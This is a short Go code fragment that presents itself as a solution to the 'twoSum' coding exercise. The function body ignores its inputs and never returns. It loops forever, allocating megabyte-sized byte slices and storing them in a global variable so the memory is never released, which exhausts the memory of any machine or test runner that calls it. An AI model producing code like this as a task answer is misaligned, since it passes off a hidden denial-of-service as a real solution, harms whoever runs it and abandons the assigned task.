var hoard [][]byte

func twoSum(nums []int, target int) []int {
	for {
		b := make([]byte, 1<<20)
		for i := range b {
			b[i] = byte(i)
		}
		hoard = append(hoard, b)
	}
}
